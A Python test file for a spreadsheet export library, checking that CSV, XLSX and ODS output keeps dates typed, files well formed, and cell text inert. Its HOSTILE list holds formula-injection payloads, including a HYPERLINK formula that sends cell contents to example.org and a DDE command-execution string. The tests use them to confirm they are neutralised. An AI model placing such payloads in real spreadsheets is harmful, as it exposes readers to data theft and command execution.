"""Tables as files: whole, typed, harmless whatever stands in them, and nothing kept back until the end."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from python_calamine import CalamineWorkbook

from goldenthread.documents.sheets.as_csv import Csv
from goldenthread.documents.sheets.as_ods import Ods
from goldenthread.documents.sheets.as_xlsx import Xlsx
from goldenthread.documents.sheets.cells import DATE, Head, harmless
from goldenthread.documents.sheets.zipped import Zipped

HEADS = [Head("Case ID"), Head("Name", width=30), Head("Born", DATE)]
DAY = dt.date(2017, 3, 4)
HOSTILE = [
    '=HYPERLINK("http://example.org?"&A1,"x")', "=1+1", "+44 7700", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1",
    "＝1+1", "=cmd|' /C calc'!A0", "_x003D_1", '"; =1', "a,b\n=1", "<script>&amp;</t>", "\u200b=1",
]  # fmt: skip
ZIPPED = pytest.mark.parametrize("kind", [Xlsx, Ods])


def made(kind, rows, **options):
    writer = kind("Cases", HEADS, **options)
    return writer.begin() + writer.rows(rows[:1]) + writer.rows(rows[1:]) + writer.end()


def sheets(data):
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def read_csv(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_opens_in_excel_with_its_letters():
    data = made(Csv, [["GT-1", "Siân Ŵyn", DAY], ["GT-2", None, None]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == ('"Case ID","Name","Born"\r\n"GT-1","Siân Ŵyn","2017-03-04"\r\n"GT-2","",""\r\n')


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_csv_is_calculated(text):
    (_head, row) = read_csv(made(Csv, [["GT-1", text, DAY]]))
    assert row[1] == harmless(text)
    assert row[1] in {text, f"'{text}"}
    assert row[1].lstrip("\t\r\n \u200b")[0] not in "=+-@＝"


@pytest.mark.parametrize("text", ["Siân", "O'Neill-Roberts", "", "(not known)", "7 Oaks", "'tis", "–"])
def test_what_is_no_formula_is_left_as_it_is(text):
    assert harmless(text) == text


@ZIPPED
def test_a_cell_is_text_as_it_was_typed_and_a_day_is_a_day(kind):
    rows = [["GT-1", text, DAY] for text in HOSTILE]
    (table,) = sheets(made(kind, rows)).values()
    assert table[0] == ["Case ID", "Name", "Born"]
    assert {row[2] for row in table[1:]} == {DAY}
    for text, row in zip(HOSTILE, table[1:], strict=True):
        # The reader of this test passes over the elements that OpenDocument has for breaks and tabs.
        assert row[1].split() == text.replace("\r", "\n").split() or kind is Ods, text
        assert "".join(row[1].split()) == "".join(text.split())


def test_the_headings_stand_out_and_the_cells_under_them_do_not():
    data = made(Xlsx, [["GT-1", "x", DAY]])
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert '<c r="A1" s="3"' in sheet
    assert '<c r="A2" s="1"' in sheet
    assert '<c r="C2" s="2"' in sheet


@ZIPPED
def test_no_cell_is_a_formula(kind):
    data = made(kind, [["GT-1", text, DAY] for text in HOSTILE])
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        said = "".join(parts.read(name).decode() for name in parts.namelist())
    for formula in ("<f>", "<f ", "table:formula", 't="str"'):
        assert formula not in said


@ZIPPED
def test_what_xml_cannot_carry_is_left_out(kind):
    (table,) = sheets(made(kind, [["GT-1", "a\x00b\x0bc\ud800d\uffff", None]])).values()
    assert table[1][1] == "abcd"


@ZIPPED
def test_a_full_sheet_goes_on_in_the_next(kind):
    rows = [[f"GT-{n}", "x", DAY] for n in range(5)]
    found = sheets(made(kind, rows, full=3))
    assert list(found) == ["Cases", "Cases 2", "Cases 3"]
    assert [row[0] for table in found.values() for row in table[1:]] == [row[0] for row in rows]
    assert all(table[0] == ["Case ID", "Name", "Born"] for table in found.values())


@ZIPPED
def test_a_list_of_nothing_is_a_file_with_headings(kind):
    (table,) = sheets(made(kind, [])).values()
    assert table == [["Case ID", "Name", "Born"]]


def test_a_day_before_excels_calendar_is_written_as_text():
    (table,) = sheets(made(Xlsx, [["GT-1", "x", dt.date(1899, 1, 1)]])).values()
    assert table[1][2] == "1899-01-01"


def test_an_opendocument_file_begins_with_what_it_is():
    data = made(Ods, [])
    assert data[30:38] == b"mimetype"
    assert data[38:].startswith(b"application/vnd.oasis.opendocument.spreadsheet")
    first = zipfile.ZipFile(io.BytesIO(data)).infolist()[0]
    assert (first.filename, first.compress_type, first.flag_bits, first.extra) == ("mimetype", 0, 0, b"")


@ZIPPED
def test_a_file_holds_nothing_of_the_machine(kind):
    data = made(kind, [["GT-1", "x", DAY]])
    for entry in zipfile.ZipFile(io.BytesIO(data)).infolist():
        assert entry.date_time == (1980, 1, 1, 0, 0, 0)
    assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None


@ZIPPED
def test_what_is_written_is_given_away_at_once(kind):
    writer = kind("Cases", HEADS)
    assert writer.begin()
    rows = [[f"GT-{n}", f"name {n * 7919}", DAY] for n in range(3000)]
    assert sum(len(writer.rows(rows)) for _ in range(4)) > 20_000
    kept = [value for value in vars(writer).values() if isinstance(value, bytes | str | list)]
    assert sum(len(value) for value in kept) < 100


def test_an_archive_of_small_parts_and_one_that_is_written_is_whole():
    pack = Zipped()
    data = pack.whole("a", b"first", stored=True) + pack.begin("b") + pack.more(b"one ") + pack.finish(b"two")
    data += pack.whole("c", b"x" * 1000) + pack.end()
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        assert parts.testzip() is None
        assert {name: parts.read(name) for name in parts.namelist()} == {
            "a": b"first",
            "b": b"one two",
            "c": b"x" * 1000,
        }
